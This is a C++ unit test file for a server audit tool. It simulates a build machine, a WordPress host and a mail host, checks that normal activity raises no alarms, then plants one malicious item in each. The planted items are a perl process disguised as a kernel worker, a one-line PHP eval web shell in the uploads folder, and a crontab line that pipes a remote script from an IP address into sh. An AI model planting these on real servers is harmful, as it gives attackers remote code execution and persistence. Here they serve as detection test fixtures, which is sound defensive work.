// What the audit finds on three well-kept servers in the middle of a working day: nothing that counts. Each then gets one bad thing, so that an audit
// that looks at nothing would fail, too.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>

#include "agent/audit/audit.hpp"
#include "agent/temporary_folder.hpp"

namespace pinfold::agent::audit {
namespace {

namespace fs = std::filesystem;

constexpr std::uint32_t kWww = 33;

/// A server in a folder: files, and processes as /proc shows them.
class Day {
public:
  Day() {
    put("/etc/os-release", "ID=debian\nVERSION_ID=\"12\"\nPRETTY_NAME=\"Debian 12\"\n");
    put("/etc/passwd",
        "root:x:0:0::/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n"
        "vmail:x:5000:5000::/var/vmail:/usr/sbin/nologin\n");
    put("/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
    put("/root/.bashrc", "export LS_OPTIONS='--color=auto'\neval \"$(dircolors)\"\nalias ls='ls $LS_OPTIONS'\n");
    put("/home/bob/.profile", "if [ -d \"$HOME/bin\" ] ; then PATH=\"$HOME/bin:$PATH\"; fi\n");
    put("/proc/self/mountinfo",
        "23 28 0:22 / /dev/shm rw,nosuid,nodev,noexec - tmpfs tmpfs rw\n24 28 0:23 / /tmp rw,nosuid,nodev,noexec - tmpfs tmpfs rw\n");
    for (const char* folder : {"/tmp/.X11-unix", "/tmp/.ICE-unix", "/tmp/systemd-private-0a1b-ntpsec.service-x/tmp", "/var/tmp", "/dev/shm"}) {
      fs::create_directories(at(folder));
    }
    process(1, 0, 0, "/usr/lib/systemd/systemd", {"/sbin/init"});
    process(300, 1, 0, "/usr/sbin/sshd", {"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"});
    process(301, 1, 0, "/usr/sbin/cron", {"/usr/sbin/cron", "-f"});
    process(310, 300, 0, "/usr/sbin/sshd", {"sshd: bob [priv]"});
    process(311, 310, 1000, "/usr/bin/bash", {"-bash"});
  }
  void put(const std::string& path, std::string_view text, mode_t mode = 0644) const {
    const fs::path file = at(path);
    fs::create_directories(file.parent_path());
    std::ofstream(file, std::ios::binary) << text;
    EXPECT_EQ(::chmod(file.c_str(), mode), 0);
  }
  void process(unsigned pid, unsigned parent, unsigned uid, const std::string& exe, const std::vector<std::string>& arguments,
               const std::string& cwd = "/") const {
    const std::string folder = "/proc/" + std::to_string(pid);
    const std::string comm = exe.substr(exe.rfind('/') + 1, 15);
    put(folder + "/stat",
        std::to_string(pid) + " (" + comm + ") S " + std::to_string(parent) + " 1 1 0 -1 4194560 1 0 0 0 1 1 0 0 20 0 1 0 900 1 1\n");
    const std::string id = std::to_string(uid);
    put(folder + "/status", "Name:\t" + comm + "\nUid:\t" + id + "\t" + id + "\t" + id + "\t" + id + "\n");
    std::string line;
    for (const std::string& argument : arguments) {
      line.append(argument).push_back('\0');
    }
    put(folder + "/cmdline", line);
    fs::create_directories(at(folder + "/fd"));
    fs::create_symlink(exe, at(folder + "/exe"));
    fs::create_symlink(cwd, at(folder + "/cwd"));
    fs::create_symlink("/dev/null", at(folder + "/fd/0"));
  }
  [[nodiscard]] fs::path at(const std::string& path) const { return fs::path(x_folder.path().string() + path); }
  /// What counts, one line each; without an order unless folders are named.
  [[nodiscard]] std::vector<std::string> alarms(const std::vector<std::string>& folders = {}) const {
    AuditConfig config;
    config.root = x_folder.path().string();
    config.order = folders.empty() ? "" : "T-7";
    config.paths = folders;
    config.hostname = "srv-1";
    TreeProgress progress;
    static const std::unique_ptr<YaraRules> rules = YaraRules::create();
    static const ManualClock clock(*parse_wall_time("2026-11-26T12:00:00Z"));
    const Report report = run_audit(config, *rules, clock, progress);
    std::vector<std::string> lines;
    for (const Finding& finding : report.findings) {
      if (finding.severity > abuse::Severity::Info) {
        lines.push_back(finding.kind + " " + finding.subject + ": " + finding.what);
      }
    }
    EXPECT_EQ(report.counted(), lines.size());
    return lines;
  }

private:
  TemporaryFolder x_folder;
};

using Alarms = std::vector<std::string>;

TEST(AuditDay, OfABuildMachine) {
  const Day day;
  day.process(400, 1, 0, "/usr/bin/gitlab-runner", {"/usr/bin/gitlab-runner", "run"});
  day.process(401, 400, 1000, "/usr/bin/bash", {"bash", "-c", "make -j8 check"}, "/tmp/builds/hello");
  day.process(402, 401, 1000, "/usr/bin/make", {"make", "-j8", "check"}, "/tmp/builds/hello");
  day.process(403, 402, 1000, "/usr/bin/dash", {"/bin/sh", "./configure"}, "/tmp/builds/hello");
  day.process(404, 402, 1000, "/tmp/builds/hello/unit_test", {"./unit_test"}, "/tmp/builds/hello");
  day.process(405, 402, 1000, "/usr/bin/perl", {"perl", "gen.pl"}, "/tmp/builds/hello");
  day.put("/tmp/builds/hello/configure", "#!/bin/sh\ncc conftest.c -o conftest && ./conftest\n", 0755);
  day.put("/tmp/builds/hello/gen.pl", "#!/usr/bin/perl\nprint \"#define X 1\\n\";\n", 0755);
  day.put("/tmp/builds/hello/unit_test",
          std::string("\x7f"
                      "ELF\2\1\1",
                      7) +
              std::string(200, '\0'),
          0755);
  day.put("/tmp/cc8Yt2.s", "\t.file \"hello.c\"\n");
  day.put("/var/tmp/ccache/stats", "1 2 3\n");
  EXPECT_EQ(day.alarms(), Alarms{});
  day.process(499, 1, 0, "/usr/bin/perl", {"[kworker/1:0]"});
  EXPECT_EQ(day.alarms().size(), 1U);
}

TEST(AuditDay, OfAWordPressHost) {
  const Day day;
  day.process(500, 1, 0, "/usr/sbin/nginx", {"nginx: master process /usr/sbin/nginx -g daemon on;"});
  day.process(501, 500, kWww, "/usr/sbin/nginx", {"nginx: worker process"});
  day.process(510, 1, 0, "/usr/sbin/php-fpm8.2", {"php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"});
  day.process(511, 510, kWww, "/usr/sbin/php-fpm8.2", {"php-fpm: pool www"});
  day.process(512, 511, kWww, "/usr/bin/convert-im6.q16", {"convert", "-resize", "300x", "/var/www/blog/wp-content/uploads/2026/11/cat.jpg", "-"});
  day.process(520, 1, 33, "/usr/bin/php8.2", {"/usr/bin/php", "/var/www/blog/wp-cron.php"}, "/var/www/blog");
  day.put("/var/spool/cron/crontabs/www-data", "*/5 * * * * /usr/bin/php /var/www/blog/wp-cron.php >/dev/null 2>&1\n", 0600);
  day.put("/etc/php/8.2/fpm/php.ini", "[PHP]\nexpose_php = Off\ndisplay_errors = Off\nallow_url_include = Off\n");
  day.put("/tmp/sess_0a1b2c3d4e5f", "user|s:3:\"bob\";", 0600);
  day.put("/tmp/phpAb12Cd", std::string("\xff\xd8\xff\xe0") + "JFIF", 0600);
  day.put("/tmp/wp-super-cache.lock", "");
  day.put("/var/www/blog/wp-includes/version.php", "<?php\n$wp_version = '7.1';\n");
  day.put("/var/www/blog/wp-config.php", "<?php\ndefine('DB_NAME', 'blog');\nrequire_once ABSPATH . 'wp-settings.php';\n", 0640);
  day.put(
      "/var/www/blog/wp-content/plugins/mail/send.php",
      "<?php\nfunction mail_send($to) { $body = base64_encode(file_get_contents(__DIR__ . '/logo.png')); return wp_mail($to, 'Hello', $body); }\n");
  day.put("/var/www/blog/wp-content/plugins/shop/import.php",
          "<?php\nif (!current_user_can('manage_options')) { exit; }\n$rows = unserialize(base64_decode($cached), ['allowed_classes' => false]);\n"
          "exec('/usr/bin/gzip ' . escapeshellarg($file));\n");
  day.put("/var/www/blog/wp-content/themes/plain/functions.php",
          "<?php add_filter('the_content', function ($t) { return preg_replace('/x/', 'y', $t); });\n");
  day.put("/var/www/blog/wp-content/uploads/2026/11/cat.jpg", std::string("\xff\xd8\xff\xe0") + "JFIF");
  day.put("/var/www/blog/wp-content/uploads/index.php", "<?php\n// Silence is golden.\n");
  EXPECT_EQ(day.alarms(), Alarms{});
  EXPECT_EQ(day.alarms({"/var/www"}), Alarms{});
  day.put("/var/www/blog/wp-content/uploads/2026/11/cat.php", "<?php @eval($_POST['cmd']); ?>");
  EXPECT_NE(day.alarms({"/var/www"}), Alarms{});
}

TEST(AuditDay, OfAMailHost) {
  const Day day;
  day.process(600, 1, 0, "/usr/lib/postfix/sbin/master", {"/usr/lib/postfix/sbin/master", "-w"});
  day.process(601, 600, 101, "/usr/lib/postfix/sbin/qmgr", {"qmgr", "-l", "-t", "unix", "-u"}, "/var/spool/postfix");
  day.process(602, 600, 5000, "/usr/lib/dovecot/deliver", {"/usr/lib/dovecot/deliver", "-d", "bob@example.net"});
  day.process(610, 1, 0, "/usr/sbin/dovecot", {"/usr/sbin/dovecot", "-F"});
  day.process(611, 1, 110, "/usr/bin/perl", {"/usr/bin/perl", "-T", "/usr/sbin/spamd", "--create-prefs"});
  day.process(612, 1, 112, "/usr/sbin/clamd", {"/usr/sbin/clamd", "--foreground=true"});
  day.process(613, 1, 0, "/usr/bin/python3.11", {"/usr/bin/python3", "/usr/bin/fail2ban-server", "-xf", "start"});
  day.process(614, 1, 0, "/usr/bin/perl", {"/usr/sbin/amavisd-new (master)"});
  day.put("/tmp/clamav-0c6e1f.tmp", "X5", 0600);
  fs::create_directories(day.at("/tmp/.spamassassin1234tmp"));
  day.put("/var/tmp/amavis/parts/p001", "Received: from mx\n", 0600);
  day.put("/etc/cron.daily/spamassassin",
          "#!/bin/sh\nset -e\ntest -f /usr/bin/sa-update || exit 0\nsa-update --no-gpg && systemctl reload spamassassin\n", 0755);
  EXPECT_EQ(day.alarms(), Alarms{});
  day.put("/var/spool/cron/crontabs/mail", "*/5 * * * * curl -s http://198.51.100.7/x.sh | sh\n");
  EXPECT_NE(day.alarms(), Alarms{});
}

}  // namespace
}  // namespace pinfold::agent::audit
